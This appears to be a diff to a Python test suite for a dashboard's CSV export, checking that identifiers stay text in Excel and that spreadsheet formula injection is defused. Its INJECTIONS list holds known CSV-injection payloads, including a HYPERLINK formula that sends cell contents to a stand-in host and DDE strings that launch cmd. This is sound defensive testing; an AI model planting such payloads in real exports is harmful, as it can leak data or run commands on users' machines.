@@ -4,6 +4,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -89,12 +90,67 @@ def test_cases_csv_round_trips_with_chinese_headers(may_cases: pd.DataFrame) -> 
         "2024-05-01 09:00:00",
     )
     assert (first["联系人（已脱敏）"], first["紧急"]) == ("张* 138****5678", "否")
-    assert first["类别编码"] == "\t06010"  # Excel keeps a tab-led value as text: the leading 0 survives
+    assert first["类别编码"] == '="06010"'  # Excel's text constant: shown as 06010, the leading 0 kept, no tab
     assert first["事件描述"] == "井盖缺失，联系电话138****5678，身份证340104********1234"
     text = data.decode("utf-8-sig")
     assert RAW_PHONE.findall(text) == []
     assert "340104199001011234" not in text
     assert "\r\n" in text  # Excel-friendly line ends
+
+
+def test_no_cell_carries_a_tab_or_runs_as_a_formula(may_cases: pd.DataFrame) -> None:
+    text = exports.cases_csv(may_cases, lang="zh").decode("utf-8-sig")
+    assert "\t" not in text
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert {cell for cell in cells if cell.startswith("=")} == {'="06010"', '="09009"', '="09005"', '="06042"'} | {
+        f'="{code}"' for code in may_cases["grid_code"].dropna()
+    }
+
+
+#: (cell as a user typed it, as the CSV must carry it): OWASP's and defusedcsv's payloads, and a masked name.
+INJECTIONS = [
+    ('=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")', "'=HYPERLINK("),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|"),
+    ("@SUM(1,1)", "'@SUM(1,1)"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("=** 138****5678", "'=** 138****5678"),  # a name that began with = (=张三 masked by the ETL)
+]
+
+
+@pytest.mark.parametrize(("typed", "written"), INJECTIONS)
+def test_formula_injection_is_defused(may_cases: pd.DataFrame, typed: str, written: str) -> None:
+    frame = may_cases.head(1).copy()
+    for column in ("description", "address", "contact_masked", "dept_name", "source_id", "request_nature"):
+        frame[column] = typed
+    text = exports.cases_csv(frame, lang="en").decode("utf-8-sig")
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    for header in ("Description", "Address", "Contact (masked)", "Department", "Source ID", "Request nature"):
+        assert row[header].startswith(written), header
+        assert row[header] == "'" + typed, header  # nothing else changed
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("06010", '="06010"'),
+        ("34010400100700401", '="34010400100700401"'),
+        ("C0001", "C0001"),
+        ("=1+1", "'=1+1"),
+        ("-123", "'-123"),
+        ("０１２", "０１２"),  # full-width digits are not an Excel number: plain text
+        (None, None),
+    ],
+)
+def test_identifiers_stay_text_in_excel(value: str | None, cell: str | None) -> None:
+    assert exports.excel_identifier(value) == cell
+
+
+def test_numbers_are_not_defused() -> None:
+    table = pd.DataFrame({"code": ["01"], "name": ["-西街道"], "cases": [-3], "closure_rate": [-0.5]})
+    text = exports.csv_bytes(table, lang="en").decode("utf-8-sig")
+    assert text.splitlines()[1] == '"=""01""",\'-西街道,-3,-0.5'
 
 
 def test_cases_csv_in_english(may_cases: pd.DataFrame) -> None:
@@ -118,8 +174,8 @@ def test_areas_csv(con: duckdb.DuckDBPyConnection) -> None:
     assert len(table) == len(areas) == 2
     assert list(table.columns[:3]) == ["区域编码", "区域名称", "上级编码"]
     assert table[["区域编码", "区域名称", "案件数", "结案率"]].values.tolist() == [
-        ["\t340102001", "东街道", "4", "0.5"],
-        ["\t340102002", "西街道", "3", "0.5"],
+        ['="340102001"', "东街道", "4", "0.5"],
+        ['="340102002"', "西街道", "3", "0.5"],
     ]
     rounded = exports.area_table(areas.assign(area_km2=30.590114027891154, closure_rate=3 / 7, per_1000=6.99479))
     assert rounded[["area_km2", "closure_rate", "per_1000"]].iloc[0].tolist() == [30.59, 0.4286, 6.99]
@@ -258,11 +314,12 @@ def test_geojson_of_nothing_is_an_empty_collection(may_cases: pd.DataFrame) -> N
 def test_a_download_reads_the_live_database_outside_a_script_run(tmp_path: Path) -> None:
     from dashboard import cache
     from settings import Settings
+    from views.access import EVERYTHING
     from views.calls import QueryCall
 
     settings = Settings(db_path=build_tiny_db(tmp_path / "onemap.duckdb"))
     call = QueryCall.of(queries.case_export, limit=100, **MAY)
-    rows = cache.fresh_frame(settings, call)  # as a download button's callable runs it
+    rows = cache.fresh_frame(settings, call, access=EVERYTHING)  # as a download button's callable runs it
     assert len(read_csv(exports.cases_csv(rows, lang="zh"))) == 8
     with pytest.raises(ValueError, match="print is not a query of the queries package"):
         QueryCall.of(print)  # type: ignore[arg-type]
